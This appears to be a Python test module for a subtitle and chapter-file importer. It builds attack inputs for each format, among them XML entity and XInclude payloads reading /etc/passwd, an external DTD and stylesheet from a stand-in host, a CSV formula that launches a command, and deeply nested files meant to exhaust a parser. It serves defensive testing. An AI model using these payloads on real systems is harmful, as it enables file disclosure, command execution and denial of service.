"""Files to import in which an attack stands wherever a format has room for words."""

import csv
import io
import json
from collections.abc import Callable, Mapping
from html import escape

from kikigaki.cli.desk import never_untitled
from kikigaki.diagnostics import Diagnostic, ordered
from kikigaki.importers import Wish, read_draft, write_note
from kikigaki.importers.decoding import Decoded, decode

ID = "kikigaki_01"


def _json(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)


def _csv(*rows: tuple[str, ...]) -> str:
    stream = io.StringIO()
    csv.writer(stream).writerows(rows)
    return stream.getvalue()


FORMATS: Mapping[str, Callable[[str], str]] = {
    "memo.txt": lambda v: (
        f"{v}\nhttps://youtu.be/{ID}\n【{v}】\n(7:18){v}\n（質問）{v}\n(8:00)答え（コメント：{v}）\n{v}\n"
    ),
    "list.txt": lambda v: f"{v}\n0:00 {v}\n7:18 {v} - {v}\n9:00 [{v}](https://a.b/{v})\n{v}\n",
    "links.md": lambda v: (
        f"# {v}\n\n- [0:00](https://youtu.be/{ID}?t=0) {v}\n- [7:18]({v}) {v}\n- 9:00 ![{v}]({v})\n"
    ),
    "table.md": lambda v: f"| time | title |\n| --- | --- |\n| 0:00 | {v} |\n| 7:18 | {v} |\n",
    "page.html": lambda v: (
        f"<html><head><title>{v}</title><meta name=description content='{v}'></head><body>"
        f"<h1>{v}</h1><ul><li>0:00 {v}</li><li><a href='{v}'>7:18</a> {v}</li></ul></body></html>"
    ),
    "quoted.html": lambda v: (
        f"<title>{escape(v)}</title><ul><li>0:00 {escape(v)}</li><li>7:18 {escape(v)}</li></ul>"
    ),
    "captions.vtt": lambda v: (
        f"WEBVTT {v}\nTitle: {v}\n\nNOTE {v}\n\n"
        f"{v}\n00:01.000 --> 00:03.000 {v}\n<v {v}>{v}</v>\n\n"
        f"07:18.000 --> 07:20.000\n{v}: {v}\n"
    ),
    "captions.srt": lambda v: (
        f"1\n00:00:01,000 --> 00:00:03,000\n{v}\n\n2\n00:07:18,000 --> 00:07:20,000\n{v}\n"
    ),
    "captions.sbv": lambda v: f"0:00:01.000,0:00:03.000\n{v}\n\n0:07:18.000,0:07:20.000\n{v}\n",
    "captions.ttml": lambda v: (
        "<tt xmlns='http://www.w3.org/ns/ttml' xml:lang='en'><head><metadata>"
        f"<title>{escape(v)}</title></metadata></head><body><div>"
        f"<p begin='1s' end='3s' role='{escape(v)}'>{escape(v)}</p><p begin='438s'>{escape(v)}</p>"
        "</div></body></tt>"
    ),
    "raw.ttml": lambda v: (
        "<tt xmlns='http://www.w3.org/ns/ttml'><body><div>"
        f"<p begin='1s' end='3s'>{v}</p><p begin='438s'>{v}</p></div></body></tt>"
    ),
    "captions.json3": lambda v: _json(
        {
            "events": [
                {"tStartMs": t, "dDurationMs": 900, "segs": [{"utf8": v}]} for t in (0, 438000)
            ]
        }
    ),
    "whisper.json": lambda v: _json(
        {"language": v, "segments": [{"start": t, "end": t + 1, "text": v} for t in (0, 438)]}
    ),
    "chapters.json": lambda v: _json(
        {
            "version": "1.2.0",
            "title": v,
            "author": v,
            "chapters": [{"startTime": t, "title": v, "url": v, "img": v} for t in (0, 438)],
        }
    ),
    "yt-dlp.info.json": lambda v: _json(
        {
            "id": ID,
            "title": v,
            "description": f"{v}\n0:00 {v}\n7:18 {v}",
            "webpage_url": v,
            "uploader": v,
            "upload_date": v[:8],
            "chapters": [{"start_time": t, "end_time": t + 9, "title": v} for t in (0, 438)],
        }
    ),
    "matroska.xml": lambda v: (
        "<Chapters><EditionEntry>"
        + "".join(
            f"<ChapterAtom><ChapterTimeStart>{time}</ChapterTimeStart><ChapterDisplay>"
            f"<ChapterString>{escape(v)}</ChapterString><ChapterLanguage>{escape(v)}"
            "</ChapterLanguage></ChapterDisplay></ChapterAtom>"
            for time in ("00:00:00.000", "00:07:18.000")
        )
        + "</EditionEntry></Chapters>"
    ),
    "podlove.xml": lambda v: (
        "<rss xmlns:psc='http://podlove.org/simple-chapters'><channel><item>"
        f"<title>{escape(v)}</title><psc:chapters version='1.2'>"
        + "".join(
            f'<psc:chapter start="{time}" title="{escape(v)}" href="{escape(v)}"/>'
            for time in ("00:00:00", "00:07:18")
        )
        + "</psc:chapters></item></channel></rss>"
    ),
    "ffmetadata.txt": lambda v: (
        f";FFMETADATA1\ntitle={v}\ncomment={v}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=9\ntitle={v}\n"
        f"[CHAPTER]\nTIMEBASE=1/1\nSTART=438\nEND=900\ntitle={v}\n"
    ),
    "ogm.txt": lambda v: (
        f"CHAPTER01=00:00:00.000\nCHAPTER01NAME={v}\nCHAPTER02=00:07:18.000\nCHAPTER02NAME={v}\n"
    ),
    "table.csv": lambda v: _csv(
        ("at", "section.ja", "answer.ja", "answer.en", "question.ja", "comment.en", "title.en"),
        ("0:00", v, v, v, v, v, v),
        ("7:18", v, v, v, v, v, v),
    ),
    "ohms.xml": lambda v: (
        "<ROOT xmlns='https://www.weareavp.com/nunncenter/ohms'><record id='x'>"
        f"<title>{escape(v)}</title><media_url>https://youtu.be/{ID}</media_url><index>"
        + "".join(
            f"<point><time>{time}</time><title>{escape(v)}</title><synopsis>{escape(v)}</synopsis>"
            f"<keywords>{escape(v)}</keywords><hyperlinks><hyperlink>{escape(v)}</hyperlink>"
            "</hyperlinks></point>"
            for time in (0, 438)
        )
        + "</index></record></ROOT>"
    ),
}
"""By the name of a file: its text with a vector in it."""

ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE tt [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]>
"""
ELSEWHERE: Mapping[str, str] = {
    "entities.ttml": f"{ENTITIES}<tt><body><div><p begin='1s'>&x; &b;</p></div></body></tt>",
    "parameters.ttml": "<!DOCTYPE tt [<!ENTITY % p SYSTEM 'file:///etc/passwd'> %p;]><tt/>",
    "document.ttml": "<!DOCTYPE tt SYSTEM 'https://foreign.example/x.dtd'>"
    "<tt><body><div><p begin='1s'>&passwd;</p></div></body></tt>",
    "sheet.xml": "<?xml-stylesheet href='https://foreign.example/x.xsl'?><Chapters/>",
    "include.xml": "<Chapters xmlns:xi='http://www.w3.org/2001/XInclude'>"
    "<xi:include href='file:///etc/passwd' parse='text'/></Chapters>",
    "snippet.md": '0:00 a\n--8<-- "/etc/passwd"\n7:18 b\n{% include "/etc/passwd" %}\n',
    "src.html": "<ul><li>0:00 a<iframe src='file:///etc/passwd'></iframe></li><li>7:18 b</li></ul>",
    "formula.csv": "at,section.en,answer.en\n0:00,a,\"=cmd|' /C calc'!A0\"\n7:18,b,@SUM(1)\n",
}
"""Files that ask for other files or for somebody else."""
DEEP: Mapping[str, str] = {
    "deep.json": "[" * 25_000,
    "deeper.json3": '{"events":' * 12_500,
    "deep.ttml": "<tt>" * 25_000,
    "wide.ttml": f"<tt><body><div>{'<p/>' * 75_000}</div></body></tt>",
    "attributes.ttml": f"<tt {' '.join(f'a{n}=x' for n in range(12_500))}/>",
    "number.json": '{"chapters":[{"startTime":' + "9" * 25_000 + ',"title":"x"}]}',
    "exponent.json": '{"chapters":[{"startTime":1e999999999,"title":"x"}]}',
    "line.txt": "0:00 " + "a" * 250_000,
    "stamps.txt": "0:00 " * 50_000,
    "brackets.txt": "[" * 125_000 + "\n0:00 a\n1:00 b\n",
    "dashes.txt": "0:00 a" + " -" * 75_000 + "\n1:00 b\n",
    "spaces.txt": "0:00 a" + " " * 125_000 + "b\n1:00 b\n",
    "stars.txt": "0:00 " + "*" * 125_000 + "\n1:00 b\n",
    "cues.vtt": "WEBVTT\n\n" + "00:00.000 --> 00:01.000\na\n\n" * 5_000,
    "tags.vtt": "WEBVTT\n\n00:00.000 --> 00:01.000\n" + "<b>" * 50_000,
    "arrows.vtt": "WEBVTT\n\n" + "-->" * 75_000,
    "numbers.srt": "1\n" * 100_000,
    "rows.csv": "at,section.en,answer.en\n" + "0:00,a,b\n" * 12_500,
    "quotes.csv": "at,section.en,answer.en\n" + '"' * 125_000,
    "tags.html": "<div>" * 25_000 + "0:00 a<br>1:00 b",
    "unclosed.html": "<a " * 50_000 + "0:00 a<br>1:00 b",
    "comments.html": "<!--" * 50_000 + "0:00 a<br>1:00 b",
    "references.html": "&amp;" * 50_000 + "0:00 a<br>1:00 b",
    "memo.txt": "【" * 75_000 + "\n(0:01)a\n",
    "voices.txt": "【a】\n(0:01)" + "（" * 75_000,
}
"""Files that are to keep the one who reads them busy."""


def note_of(name: str, text: str) -> tuple[str, tuple[Diagnostic, ...]]:
    """The note that a file becomes, empty if it is refused; and what is said about it."""
    decoded = decode(text.encode("utf-8", "surrogatepass"), name, "")
    if not isinstance(decoded, Decoded):
        return "", (decoded,)
    draft = read_draft(name, decoded.text, Wish(("ja", "en"), video=ID))
    if not draft.sections:
        return "", draft.diagnostics
    written = write_note(never_untitled(draft, "x", "ja"), name, ("ja", "en"), "ja")
    return written.text, (*draft.diagnostics, *written.diagnostics)


def main() -> None:
    """Import what is to keep an importer busy; the last line tells at which it was."""
    for name, text in DEEP.items():
        print(name, flush=True)  # noqa: T201 - for the one who waits
        note, problems = note_of(name, text)
        assert note or problems, name
        assert len(ordered(problems)) < 1_000, name


if __name__ == "__main__":
    main()
